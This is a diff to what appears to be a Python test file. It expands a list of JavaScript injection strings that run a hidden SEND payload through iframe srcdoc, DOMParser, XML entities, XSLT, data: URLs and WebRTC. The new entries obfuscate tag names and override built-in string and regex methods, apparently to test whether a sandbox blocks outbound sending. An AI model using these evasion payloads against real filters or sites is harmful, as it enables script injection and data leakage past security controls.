@@ -262,7 +262,9 @@ SEND = (
 
 WAYS = [
     SEND,
-    'document.body.innerHTML += `<iframe srcdoc="<script>' + SEND + '<\\/script>"></iframe>`',
+    'document.body.innerHTML += `<${{`iframe`}} srcdoc="<script>'
+    + SEND
+    + '<\\/script>"></iframe>`',
     "const f = document.createElement('iframe'); f.srcdoc = `<script>"
     + SEND
     + "<\\/script>`; document.body.append(f)",
@@ -270,11 +272,11 @@ WAYS = [
     + SEND
     + "<\\/script>`);"
     "document.body.append(f)",
-    'document.write(`<iframe srcdoc="<script>' + SEND + '<\\/script>"></iframe>`)',
-    "const t = document.createElement('template'); t.innerHTML = `<iframe srcdoc=\"<script>"
+    'document.write(`<${{`iframe`}} srcdoc="<script>' + SEND + '<\\/script>"></iframe>`)',
+    "const t = document.createElement('template'); t.innerHTML = `<${{`iframe`}} srcdoc=\"<script>"
     + SEND
     + '<\\/script>"></iframe>`; document.body.append(t.content)',
-    'document.body.append(new DOMParser().parseFromString(`<iframe srcdoc="<script>'
+    'document.body.append(new DOMParser().parseFromString(`<${{`iframe`}} srcdoc="<script>'
     + SEND
     + "<\\/script>\"></iframe>`, 'text/html').body.firstChild)",
     "const f = document.createElement('iframe'); document.body.append(f); f.contentWindow.eval(`"
@@ -285,15 +287,39 @@ WAYS = [
     + "`; document.body.append(f)",
     "const f = document.createElement('iframe'); const a = document.createAttribute('srcdoc'); "
     "a.value = `<script>" + SEND + "<\\/script>`; f.setAttributeNode(a); document.body.append(f)",
-    "document.body.insertAdjacentHTML('beforeend', `<iframe srcdoc=\"<script>"
+    "document.body.insertAdjacentHTML('beforeend', `<${{`iframe`}} srcdoc=\"<script>"
     + SEND
     + '<\\/script>"></iframe>`)',
-    'document.body.append(document.createRange().createContextualFragment(`<iframe srcdoc="<script>'
+    'document.body.append(document.createRange().createContextualFragment(`<${{`iframe`}} srcdoc="<script>'
     + SEND
     + '<\\/script>"></iframe>`))',
     "const f = document.createElement('iframe'); document.body.append(f); new f.contentWindow."
     + PEER.removeprefix("new ")
     + ".createDataChannel('x')",
+    "const parsed = new DOMParser().parseFromString(`<body xmlns:h='http://www.w3.org/1999/xhtml'>"
+    "<h:iframe srcdoc='&lt;script>"
+    + SEND.replace("'", '"')
+    + "&lt;/script>'/></body>`, 'application/xml'); document.body.append(parsed.documentElement.firstChild)",
+    "const parsed = new DOMParser().parseFromString(`<!DOCTYPE p [<!ENTITY f '<h:iframe "
+    'xmlns:h="http://www.w3.org/1999/xhtml" src&#100;oc="&#38;lt;script>'
+    + SEND.replace("'", "&#38;#39;")
+    + "&#38;lt;/script>\"/>'>]><p>&f;</p>`, 'application/xml'); document.body.append(parsed.documentElement.firstChild)",
+    "const parsed = new DOMParser().parseFromString(`<x:stylesheet version='1.0' xmlns:x="
+    "'http://www.w3.org/1999/XSL/Transform'><x:template match='/'><x:element name='iframe' "
+    "namespace='http://www.w3.org/1999/xhtml'><x:attribute name='{{concat(\"src\", \"doc\")}}'>&lt;script>"
+    + SEND
+    + "&lt;/script></x:attribute></x:element></x:template></x:stylesheet>`, 'application/xml'); const made = new XSLTProcessor();"
+    " made.importStylesheet(parsed); document.body.append(made.transformToFragment(parsed, document))",
+    "const f = new XMLHttpRequest(); f.open('GET', `data:text/html,${{encodeURIComponent(`<${{`iframe`}} srcdoc=\"<script>"
+    + SEND
+    + "<\\/script>\"></iframe>`)}}`); f.responseType = 'document'; f.onload = () => {{ document.body.append(f.response.body.firstChild) }}; f.send()",
+    "RegExp.prototype.exec = () => null; const f = document.createElement('iframe'); f.srcdoc = `<script>"
+    + SEND
+    + "<\\/script>`; document.body.append(f)",
+    "String.prototype.replace = function same() {{ return `${{this}}` }}; "
+    "document.body.insertAdjacentHTML('beforeend', `<${{`iframe`}} srcdoc=\"<script>"
+    + SEND
+    + '<\\/script>"></iframe>`)',
     (
         "trustedTypes.createPolicy('default', {{createHTML: (s) => s}}); "
         "trustedTypes.createPolicy('mine', {{createHTML: (s) => s}})"
